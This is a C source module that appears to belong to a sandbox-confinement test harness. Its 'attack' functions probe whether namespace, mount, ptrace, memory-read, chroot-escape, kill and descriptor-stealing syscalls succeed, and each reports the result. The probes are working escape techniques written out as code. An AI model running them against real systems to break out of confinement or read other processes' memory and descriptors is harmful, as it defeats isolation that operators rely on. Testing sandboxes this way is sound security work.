/* Namespace, mount, ptrace and process attacks. */
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

static char mnt_dir[64];

static const char *make_mnt_dir(void)
{
    snprintf(mnt_dir, sizeof(mnt_dir), "/tmp/.atk-mnt-%d", (int)getpid());
    mkdir(mnt_dir, 0700);
    return mnt_dir;
}

static int do_mount(const char *name, const char *src, const char *fstype, unsigned long flags)
{
    const char *dir = make_mnt_dir();
    int r = mount(src, dir, fstype, flags, NULL);
    int e = r < 0 ? errno : 0;
    if (r == 0)
        umount2(dir, MNT_DETACH);
    rmdir(dir);
    return atk_report(name, r == 0, e, "mount(%s, %s, %s, 0x%lx)", src, dir, fstype ? fstype : "-",
                      flags);
}

static int a_mount_tmpfs(const char *name, int argc, char **argv)
{
    return do_mount(name, "none", "tmpfs", 0);
}

static int a_mount_bind(const char *name, int argc, char **argv)
{
    return do_mount(name, argc > 0 ? argv[0] : "/", NULL, MS_BIND | MS_REC);
}

static int a_mount_proc(const char *name, int argc, char **argv)
{
    return do_mount(name, "proc", "proc", 0);
}

static int a_remount_root(const char *name, int argc, char **argv)
{
    /* Try to drop nosuid/nodev/ro from the root mount. */
    int r = mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL);
    int e = r < 0 ? errno : 0;
    return atk_report(name, r == 0, e,
                      "mount(NULL, /, MS_REMOUNT|MS_BIND) clearing ro/nosuid/nodev");
}

static int a_fsopen(const char *name, int argc, char **argv)
{
    int fd = (int)syscall(SYS_fsopen, "tmpfs", FSOPEN_CLOEXEC);
    int e = fd < 0 ? errno : 0;
    if (fd >= 0)
        close(fd);
    return atk_report(name, fd >= 0, e, "fsopen(tmpfs) (new mount API)");
}

static int a_open_tree(const char *name, int argc, char **argv)
{
    int fd = (int)syscall(SYS_open_tree, AT_FDCWD, "/",
                          OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC | AT_RECURSIVE);
    int e = fd < 0 ? errno : 0;
    if (fd >= 0)
        close(fd);
    return atk_report(name, fd >= 0, e, "open_tree(/, OPEN_TREE_CLONE)");
}

struct ns_flag {
    const char *name;
    unsigned long flag;
};
static const struct ns_flag ns_flags[] = {
    {"user", CLONE_NEWUSER}, {"mnt", CLONE_NEWNS},
    {"mount", CLONE_NEWNS},  {"net", CLONE_NEWNET},
    {"pid", CLONE_NEWPID},   {"ipc", CLONE_NEWIPC},
    {"uts", CLONE_NEWUTS},   {"cgroup", CLONE_NEWCGROUP},
    {"time", CLONE_NEWTIME}, {NULL, 0},
};

static unsigned long ns_lookup(const char *n)
{
    for (const struct ns_flag *f = ns_flags; f->name; f++)
        if (strcmp(f->name, n) == 0)
            return f->flag;
    return 0;
}

static int a_unshare(const char *name, int argc, char **argv)
{
    unsigned long fl = argc > 0 ? ns_lookup(argv[0]) : 0;
    if (!fl)
        return atk_report(name, false, EINVAL, "unknown namespace %s", argc > 0 ? argv[0] : "");
    int r = unshare((int)fl);
    int e = r < 0 ? errno : 0;
    return atk_report(name, r == 0, e, "unshare(CLONE_NEW%s)", argv[0]);
}

static const char *ns_file(const char *n)
{
    if (strcmp(n, "mount") == 0)
        return "mnt";
    return n;
}

static int a_clone(const char *name, int argc, char **argv)
{
    /* The child reports (exit status 0) whether it really is in a new namespace: clone(2)
     * cannot express CLONE_NEWTIME (0x80 lies in the exit-signal byte), so only a changed
     * /proc/self/ns/<ns> link counts as success. */
    unsigned long fl = argc > 0 ? ns_lookup(argv[0]) : 0;
    if (!fl)
        return atk_report(name, false, EINVAL, "unknown namespace %s", argc > 0 ? argv[0] : "");
    char path[64], before[128] = "";
    snprintf(path, sizeof(path), "/proc/self/ns/%s", ns_file(argv[0]));
    ssize_t bl = readlink(path, before, sizeof(before) - 1);
    before[bl > 0 ? bl : 0] = '\0';
    long pid = syscall(SYS_clone, fl | SIGCHLD, 0, NULL, NULL, 0);
    if (pid == 0) {
        char now[128] = "";
        ssize_t nl = readlink(path, now, sizeof(now) - 1);
        now[nl > 0 ? nl : 0] = '\0';
        _exit(nl > 0 && bl > 0 && strcmp(now, before) != 0 ? 0 : 3);
    }
    int e = pid < 0 ? errno : 0;
    int status = 0;
    if (pid > 0)
        waitpid((pid_t)pid, &status, __WALL);
    bool in_new = pid > 0 && WIFEXITED(status) && WEXITSTATUS(status) == 0;
    return atk_report(name, in_new, e, "clone(CLONE_NEW%s|SIGCHLD) -> %ld, child %s", argv[0], pid,
                      pid <= 0 ? "not created"
                      : in_new ? "IN A NEW NAMESPACE"
                               : "same ns");
}

static int a_clone3(const char *name, int argc, char **argv)
{
    unsigned long fl = argc > 0 ? ns_lookup(argv[0]) : 0;
    if (!fl)
        return atk_report(name, false, EINVAL, "unknown namespace %s", argc > 0 ? argv[0] : "");
    struct clone_args ca;
    memset(&ca, 0, sizeof(ca));
    ca.flags = fl;
    ca.exit_signal = SIGCHLD;
    long pid = syscall(SYS_clone3, &ca, sizeof(ca));
    if (pid == 0)
        _exit(0);
    int e = pid < 0 ? errno : 0;
    if (pid > 0)
        waitpid((pid_t)pid, NULL, 0);
    return atk_report(name, pid > 0, e, "clone3(CLONE_NEW%s)", argv[0]);
}

static int a_setns(const char *name, int argc, char **argv)
{
    const char *ns = argc > 0 ? argv[0] : "mnt";
    const char *pid = argc > 1 ? argv[1] : "1";
    char path[128];
    snprintf(path, sizeof(path), "/proc/%s/ns/%s", pid, ns);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return atk_report(name, false, errno, "opening %s", path);
    int r = setns(fd, 0);
    int e = r < 0 ? errno : 0;
    close(fd);
    return atk_report(name, r == 0, e, "setns(%s)", path);
}

static int a_setns_pidfd(const char *name, int argc, char **argv)
{
    pid_t pid = argc > 0 ? (pid_t)strtol(argv[0], NULL, 10) : 1;
    int fd = (int)syscall(SYS_pidfd_open, pid, 0);
    if (fd < 0)
        return atk_report(name, false, errno, "pidfd_open(%d)", (int)pid);
    int r = setns(fd, CLONE_NEWNS | CLONE_NEWNET | CLONE_NEWUTS | CLONE_NEWIPC);
    int e = r < 0 ? errno : 0;
    close(fd);
    return atk_report(name, r == 0, e, "setns(pidfd(%d), mnt|net|uts|ipc)", (int)pid);
}

static int attach(const char *name, pid_t pid, const char *what)
{
    long r = ptrace(PTRACE_ATTACH, pid, NULL, NULL);
    int e = r < 0 ? errno : 0;
    if (r == 0) {
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
    }
    return atk_report(name, r == 0, e, "ptrace(PTRACE_ATTACH, %d) %s", (int)pid, what);
}

static pid_t spawn_sleeper(void)
{
    pid_t c = fork();
    if (c == 0) {
        for (;;)
            pause();
    }
    return c;
}

static int a_ptrace(const char *name, int argc, char **argv)
{
    pid_t pid = argc > 0 ? (pid_t)strtol(argv[0], NULL, 10) : 1;
    return attach(name, pid, "");
}

static int a_ptrace_child(const char *name, int argc, char **argv)
{
    pid_t c = spawn_sleeper();
    if (c < 0)
        return atk_report(name, false, errno, "fork");
    attach(name, c, "(own child)");
    kill(c, SIGKILL);
    waitpid(c, NULL, 0);
    return 0;
}

static int a_ptrace_traceme(const char *name, int argc, char **argv)
{
    long r = ptrace(PTRACE_TRACEME, 0, NULL, NULL);
    return atk_report(name, r == 0, r < 0 ? errno : 0, "ptrace(PTRACE_TRACEME)");
}

static volatile char secret_word[32] = "attack-secret";

static int vmread(const char *name, pid_t pid, unsigned long addr, const char *what)
{
    char buf[32];
    struct iovec local = {buf, sizeof(buf)}, remote = {(void *)addr, sizeof(buf)};
    ssize_t n = process_vm_readv(pid, &local, 1, &remote, 1, 0);
    int e = n < 0 ? errno : 0;
    /* EFAULT means the permission check passed and only the address was bad. */
    bool ok = n > 0 || e == EFAULT;
    return atk_report(name, ok, e, "process_vm_readv(%d, 0x%lx) %s -> %zd", (int)pid, addr, what,
                      n);
}

static int a_vmread(const char *name, int argc, char **argv)
{
    pid_t pid = argc > 0 ? (pid_t)strtol(argv[0], NULL, 10) : 1;
    unsigned long addr = argc > 1 ? strtoul(argv[1], NULL, 0) : (unsigned long)&secret_word;
    return vmread(name, pid, addr, "");
}

static int a_vmread_child(const char *name, int argc, char **argv)
{
    pid_t c = spawn_sleeper();
    if (c < 0)
        return atk_report(name, false, errno, "fork");
    vmread(name, c, (unsigned long)&secret_word, "(own child)");
    kill(c, SIGKILL);
    waitpid(c, NULL, 0);
    return 0;
}

static int a_chroot_escape(const char *name, int argc, char **argv)
{
    /* Classic escape: chroot into a subdir while keeping cwd outside, then walk up. */
    char dir[64];
    snprintf(dir, sizeof(dir), "/tmp/.atk-chroot-%d", (int)getpid());
    mkdir(dir, 0700);
    int r = chroot(dir);
    int e = r < 0 ? errno : 0;
    rmdir(dir);
    if (r < 0)
        return atk_report(name, false, e, "chroot(%s)", dir);
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            break;
    r = chroot(".");
    e = r < 0 ? errno : 0;
    struct stat st;
    const char *probe = argc > 0 ? argv[0] : "/work";
    bool sees = stat(probe, &st) == 0;
    return atk_report(name, r == 0, e, "chroot(dir) + chdir(..)x64 + chroot(.): %s, %s %s",
                      r == 0 ? "second chroot ok" : "second chroot failed", probe,
                      sees ? "VISIBLE" : "not visible");
}

static int a_kill(const char *name, int argc, char **argv)
{
    pid_t pid = argc > 0 ? (pid_t)strtol(argv[0], NULL, 10) : 1;
    int sig = argc > 1 ? (int)strtol(argv[1], NULL, 10) : SIGKILL;
    if (pid == -1)
        signal(SIGTERM, SIG_IGN);
    int r = kill(pid, sig);
    int e = r < 0 ? errno : 0;
    /* kill() reporting success against PID 1 is not an escape by itself: the test checks the
     * target survived.  ok reports only whether the kernel accepted the signal. */
    return atk_report(name, r == 0, e, "kill(%d, %d)", (int)pid, sig);
}

static int a_pidfd_getfd(const char *name, int argc, char **argv)
{
    /* Steals descriptor N of another process (default: fd 0 of an own child). */
    pid_t c = argc > 0 ? (pid_t)strtol(argv[0], NULL, 10) : spawn_sleeper();
    int target = argc > 1 ? (int)strtol(argv[1], NULL, 10) : 0;
    int pfd = (int)syscall(SYS_pidfd_open, c, 0);
    int e = pfd < 0 ? errno : 0;
    long fd = pfd >= 0 ? syscall(SYS_pidfd_getfd, pfd, target, 0) : -1;
    if (pfd >= 0)
        e = fd < 0 ? errno : 0;
    if (fd >= 0)
        close((int)fd);
    if (pfd >= 0)
        close(pfd);
    if (argc == 0 && c > 0) {
        kill(c, SIGKILL);
        waitpid(c, NULL, 0);
    }
    return atk_report(name, fd >= 0, e, "pidfd_getfd(pid %d, fd %d) -> %ld", (int)c, target, fd);
}

static int a_pivot_root(const char *name, int argc, char **argv)
{
    long r = syscall(SYS_pivot_root, "/tmp", "/tmp");
    return atk_report(name, r == 0, r < 0 ? errno : 0, "pivot_root(/tmp, /tmp)");
}

const struct atk_entry atk_ns_table[] = {
    {"pidfd_getfd", a_pidfd_getfd, "[pid] [fd] steal a descriptor of another process"},
    {"pivot_root", a_pivot_root, "pivot_root(/tmp, /tmp)"},
    {"mount_tmpfs", a_mount_tmpfs, "mount a tmpfs on /tmp/.atk-mnt-PID"},
    {"mount_bind", a_mount_bind, "[src] bind-mount src (default /)"},
    {"mount_proc", a_mount_proc, "mount a new procfs"},
    {"remount_root", a_remount_root, "remount / without ro/nosuid/nodev"},
    {"fsopen", a_fsopen, "fsopen(tmpfs)"},
    {"open_tree", a_open_tree, "open_tree(/, CLONE)"},
    {"unshare", a_unshare, "<user|mnt|net|pid|ipc|uts|cgroup|time>"},
    {"clone", a_clone, "<ns> clone(2) with CLONE_NEW<ns>"},
    {"clone3", a_clone3, "<ns> clone3(2) with CLONE_NEW<ns>"},
    {"setns", a_setns, "<ns> [pid] setns(/proc/pid/ns/ns)"},
    {"setns_pidfd", a_setns_pidfd, "[pid] setns(pidfd)"},
    {"ptrace", a_ptrace, "<pid> PTRACE_ATTACH"},
    {"ptrace_child", a_ptrace_child, "PTRACE_ATTACH to an own child"},
    {"ptrace_traceme", a_ptrace_traceme, "PTRACE_TRACEME"},
    {"vmread", a_vmread, "<pid> [addr] process_vm_readv"},
    {"vmread_child", a_vmread_child, "process_vm_readv of an own child"},
    {"chroot_escape", a_chroot_escape, "[probe] chroot + chdir(..) escape"},
    {"kill", a_kill, "<pid> [sig] kill(2)"},
    {NULL, NULL, NULL},
};
